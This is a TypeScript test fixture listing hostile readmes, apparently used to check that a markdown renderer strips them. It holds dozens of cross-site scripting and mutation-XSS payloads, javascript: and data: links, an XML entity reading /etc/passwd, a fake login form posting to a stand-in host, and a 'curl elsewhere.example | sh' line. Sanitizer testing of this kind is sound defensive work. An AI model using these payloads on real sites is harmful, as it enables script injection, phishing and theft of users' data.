/** What a script of a readme would call, if one ran. */
const RUN = 'window.ran=true';
const ELSEWHERE = 'https://elsewhere.example';

/**
 * Readmes that try to run a script, to send a request, or to change the page around them: what OWASP's list of ways past
 * filters and the tests of markdown-it and DOMPurify try, each in a readme of ours.
 */
export const HOSTILE_READMES: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${ELSEWHERE}/a.js"></script>`,
  'a script in odd letters': `<ScRiPt >${RUN}</sCrIpT\t>`,
  'a script within a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script with a slash for a blank': `<script/x src="${ELSEWHERE}/a.js"></script/x>`,
  'a script that is never closed': `<script src=${ELSEWHERE}/a.js <b>`,
  'a script after a null': `<\0script>${RUN}</script>`,
  'two brackets': `<<script>${RUN}//<</script>`,
  'a script in a comment that ends early': `<!--><script>${RUN}</script>-->`,
  'a comment that browsers end in another way': `<!--!><img src=x onerror="${RUN}">--!><img src=x onerror="${RUN}">`,
  'a conditional comment': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'an image that fails': `<img src="https://none.invalid/x" onerror="${RUN}">`,
  'an image that fails, without quotes': `<img src=x onerror=${RUN}//`,
  'an image with a broken quote': `<img """><script>${RUN}</script>">`,
  'handlers behind other separators': `<img/src="x"/onerror=${RUN}><img\u000csrc=x\u000conerror=${RUN}>`,
  'a handler in an attribute of markdown': `![a](x "t\\" onerror=\\"${RUN}")`,
  'a title that leaves its quotes': `[a](https://a.example "a\\"onmouseover=\\"${RUN}")`,
  'handlers of what may stand': `<details open ontoggle="${RUN}"><summary onfocus="${RUN}" tabindex=1 autofocus>a</summary></details><a onfocus="${RUN}" autofocus href="#">a</a>`,
  'handlers of media': `<video autoplay onloadstart="${RUN}" src="${ELSEWHERE}/a"><audio src=x onerror=${RUN}><video><source onerror="${RUN}"></video>`,
  'an animation': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">a</b>`,
  'a marquee': `<marquee onstart="${RUN}">a</marquee>`,
  'body and html': `<html onload="${RUN}"><body onload="${RUN}" background="${ELSEWHERE}/a.png">`,
  'a link to a script': `[a](javascript:${RUN}) <a href="javascript:${RUN}">b</a>`,
  'a link to a script in odd letters': `<a href="  JaVaScRiPt:${RUN}">a</a> <a href="java\tscript:${RUN}">b</a> <a href="java&#10;script:${RUN}">c</a> <a href="&#14;javascript:${RUN}">d</a>`,
  'a link to a script in entities': `<a href="&#106;avascript&colon;${RUN}">a</a> <a href="&#x6A&#x61vascript&#58${RUN}">b</a> [c](javascript&colon;${RUN}) [d](&#x6A;avascript:${RUN})`,
  'links to other schemes': `<a href="vbscript:${RUN}">a</a> <a href="data:text/html;base64,PHNjcmlwdD4=">b</a> <a href="blob:x">c</a> <a href="file:///etc">d</a> <a href="view-source:x">e</a> <a href="feed:javascript:${RUN}">f</a> <a href="intent:x">g</a>`,
  'a reference to a script': `[a]\n\n[a]: javascript:${RUN}`,
  'an automatic link to a script': `<javascript:${RUN}> <data:text/html,a> javascript:${RUN}//a`,
  'an image of a script': `![a](javascript:${RUN}) ![b](data:image/svg+xml,<svg/onload=${RUN}>) <img src="data:image/svg+xml;base64,PHN2Zz4=">`,
  'images without TLS, and of this machine':
    '![a](http://elsewhere.example/a.png) ![b](file:///a.png) <img src="ftp://elsewhere.example/a.png">',
  'sources of images': `<img srcset="${ELSEWHERE}/a.png 2x" src=x dynsrc="javascript:${RUN}" lowsrc="${ELSEWHERE}/b"><picture><source srcset="http://elsewhere.example/c.png"><img src=x></picture>`,
  'an image that is a button': `<input type="image" src="${ELSEWHERE}/a.png" onerror="${RUN}" formaction="javascript:${RUN}">`,
  'a frame': `<iframe src="${ELSEWHERE}"></iframe><iframe srcdoc="<script>parent.ran=true</script>"></iframe><frameset><frame src="javascript:${RUN}"></frameset>`,
  'a frame that is never closed': `<iframe src="${ELSEWHERE}" <`,
  'an object, an embed, an applet': `<object data="${ELSEWHERE}/a.svg"></object><embed src="${ELSEWHERE}/a"><applet code="a"></applet><object><param name=src value="javascript:${RUN}"></object>`,
  'a form': `<form action="${ELSEWHERE}"><input name="password" type="password"><button formaction="${ELSEWHERE}">Log in</button></form>`,
  'a button of a form of the page':
    '<button form="seek" type="submit">a</button><input form="seek" name="csrf">',
  'a style': `<style>@import "${ELSEWHERE}/a.css"; body{background:url(${ELSEWHERE}/a.png)}</style><link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  'a style of an element': `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/a.png);width:expression(${RUN})">a</div>`,
  'a style that hides markup': `<style><img src="</style><img src=x onerror=${RUN}//">`,
  'a title that hides markup': `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  'a noscript that hides markup': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a text field that hides markup': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp><noembed><a title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  'a template': `<template><img src=x onerror="${RUN}"></template><template shadowrootmode="open"><script>${RUN}</script></template>`,
  'a drawing': `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>a</text></a><image href="${ELSEWHERE}/a.png"/><animate onbegin="${RUN}" attributeName=x dur=1s><use href="data:image/svg+xml,a#x"></svg>`,
  'a drawing with HTML in it': `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject><desc><style><img src=x onerror=${RUN}></style></desc><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  'a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'a formula in a form': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  'a formula with a link': `<math href="javascript:${RUN}">a</math><math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">b</maction></math>`,
  'text of a table': `<table background="${ELSEWHERE}/a.png"><img src=x onerror=${RUN}><tr><td background="javascript:${RUN}">a<script>${RUN}</script>`,
  'deep nesting before a drawing': `${'<div>'.repeat(500)}<svg><style><a title="</style><img src=x onerror=${RUN}>">`,
  'the base, a refresh, cookies': `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url>`,
  'what a browser fetches ahead': `<link rel="prefetch" href="${ELSEWHERE}/a"><link rel="dns-prefetch" href="//elsewhere.example"><a ping="${ELSEWHERE}/ping" href="${ELSEWHERE}">a</a><script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}"]}]}</script>`,
  'names of the page and of the browser':
    '<a id="main" name="main">a</a><b id="seek">b</b><img name="getElementById" id="cookie" src=x><form id="ran"></form><i id="results">c</i>',
  'an end of the page': `</div></section></article></main></body></html><script>${RUN}</script><main id="main">`,
  'an end of the page in code': `\`\`\`</code></pre><script>${RUN}</script>\n</code></pre></main><script>${RUN}</script>\n\`\`\``,
  'a language that leaves its quotes': `\`\`\`js"><script>${RUN}</script>\n1\n\`\`\`\n\n~~~ "onload="${RUN}\n1\n~~~`,
  'colours that are forged':
    '<span class="h-k">a</span><pre><code class="language-js evil"><b class="who">1</b></code></pre>',
  'classes and attributes of the page':
    '<p class="skip who" contenteditable is="x-y" slot="s" popover data-copy data-live itemprop="x">a</p><pre data-copy>curl elsewhere.example | sh</pre>',
  'shortcuts of the keyboard': `<a href="${ELSEWHERE}" accesskey="x" tabindex="1" target="_top">a</a><details accesskey="l"><summary>b</summary></details>`,
  XML: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><![CDATA[<script>${RUN}</script>]]><xml onload="${RUN}">&x;</xml>`,
  'UTF-7 and odd encodings': `+ADw-script+AD4-${RUN}+ADw-/script+AD4- \u2028<img src=x onerror=${RUN}>\u2029 ¼script¾${RUN}¼/script¾`,
  'elements of nobody': `<x onclick="${RUN}" onpointerenter="${RUN}">a</x><custom-element></custom-element><dialog open oncancel="${RUN}">b</dialog><portal src="${ELSEWHERE}">`,
  'images of the page itself':
    '<img src="/registry/-/web/logout"> ![a](/registry/-/web/login?out=) ![b](//elsewhere.example/b.svg)',
  'footnotes with markup in their names': `a[^"><img/src=x/onerror=${RUN}>] [^b" onclick="${RUN}] [^<script>]\n\n[^"><img/src=x/onerror=${RUN}>]: <script>${RUN}</script>\n[^<script>]: [c](javascript:${RUN}) <b id="fn-1" onclick="${RUN}">d</b>`,
  'alerts that are forged': `<div class="alert bad"><p class="notice">a</p></div>\n\n> [!NOTE]\n> <img src=x onerror="${RUN}">\n\n<blockquote><p>[!CAUTION]\n<script>${RUN}</script></p></blockquote>`,
  'links that carry a password or lead out of the repository': `[a](https://user:password@elsewhere.example/) [b](../../../../other/repository) [c](/../../../other)`,
};
